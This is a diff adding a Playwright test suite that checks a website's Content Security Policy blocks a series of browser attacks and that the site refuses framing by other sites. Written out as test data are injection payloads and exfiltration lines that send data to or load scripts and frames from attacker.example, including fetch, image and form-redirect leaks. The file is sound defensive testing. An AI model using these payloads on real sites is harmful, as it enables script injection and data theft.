@@ -1,0 +1,125 @@
+import { expect, test, type Page } from "@playwright/test";
+
+type Attack = { path: string; directive: string; attack: () => unknown };
+
+/** What someone might bring into a page, where the policy must stop it. */
+const attacks: Record<string, Attack> = {
+  "an inline script": {
+    path: "/",
+    directive: "script-src-elem",
+    attack: () => {
+      const script = document.createElement("script");
+      script.textContent = "document.title = 'attacked'";
+      document.body.append(script);
+    },
+  },
+  "a script from elsewhere": {
+    path: "/",
+    directive: "script-src-elem",
+    attack: () => {
+      const src = "https://attacker.example/script.js";
+      document.body.append(Object.assign(document.createElement("script"), { src }));
+    },
+  },
+  "a handler in an attribute": {
+    path: "/reseñas/",
+    directive: "script-src-attr",
+    attack: () => {
+      document.body.innerHTML += `<img src="/no" onerror="document.title = 'attacked'">`;
+    },
+  },
+  "a javascript: link": {
+    path: "/contacto/",
+    directive: "script-src-elem",
+    attack: () => {
+      document.body.innerHTML += `<a id="x" href="javascript:document.title = 'attacked'">x</a>`;
+      document.getElementById("x")?.click();
+    },
+  },
+  "evaluated text": {
+    path: "/",
+    directive: "script-src",
+    attack: () => setTimeout("document.title = 'attacked'"),
+  },
+  "a form that sends elsewhere": {
+    path: "/contacto/",
+    directive: "form-action",
+    attack: () => {
+      document.forms[0].action = "https://attacker.example/";
+      document.forms[0].submit();
+    },
+  },
+  "a form where none belongs": {
+    path: "/",
+    directive: "form-action",
+    attack: () => {
+      const form = Object.assign(document.createElement("form"), { action: "/" });
+      document.body.append(form);
+      form.submit();
+    },
+  },
+  "a picture that tells": {
+    path: "/",
+    directive: "img-src",
+    attack: () => {
+      new Image().src = "https://attacker.example/?told";
+    },
+  },
+  "a request that tells": {
+    path: "/escribir-reseña/",
+    directive: "connect-src",
+    attack: () => fetch("https://attacker.example/?told").catch(() => undefined),
+  },
+  "the form service where no form is": {
+    path: "/",
+    directive: "connect-src",
+    attack: () => fetch("http://127.0.0.1:8010/f/demo").catch(() => undefined),
+  },
+  "a frame from elsewhere": {
+    path: "/contacto/",
+    directive: "frame-src",
+    attack: () => {
+      const src = "https://attacker.example/";
+      document.body.append(Object.assign(document.createElement("iframe"), { src }));
+    },
+  },
+  "another base of all addresses": {
+    path: "/",
+    directive: "base-uri",
+    attack: () => {
+      const href = "https://attacker.example/";
+      document.head.append(Object.assign(document.createElement("base"), { href }));
+    },
+  },
+};
+
+/** What the policy of a page has stopped. */
+const stopped = (page: Page) =>
+  page.evaluate(() => (window as { stopped?: string[] }).stopped ?? []);
+
+for (const [name, { path, directive, attack }] of Object.entries(attacks))
+  test(`${name} is stopped`, async ({ page }) => {
+    let isAsked = false;
+    await page.route("https://attacker.example/**", (route) => {
+      isAsked = true;
+      return route.abort();
+    });
+    await page.addInitScript(() => {
+      const seen: string[] = Object.assign(window, { stopped: [] }).stopped;
+      document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) =>
+        seen.push(effectiveDirective),
+      );
+    });
+    await page.goto(path);
+    await page.evaluate(attack);
+    await expect.poll(() => stopped(page)).toEqual([directive]);
+    expect(await page.title()).not.toBe("attacked");
+    expect(isAsked).toBe(false);
+  });
+
+test("no other site shows the pages in a frame", async ({ request }) => {
+  const { "content-security-policy": policy, "x-frame-options": frames } = (
+    await request.get("/")
+  ).headers();
+  expect([policy, frames]).toEqual(["frame-ancestors 'self'", "SAMEORIGIN"]);
+});
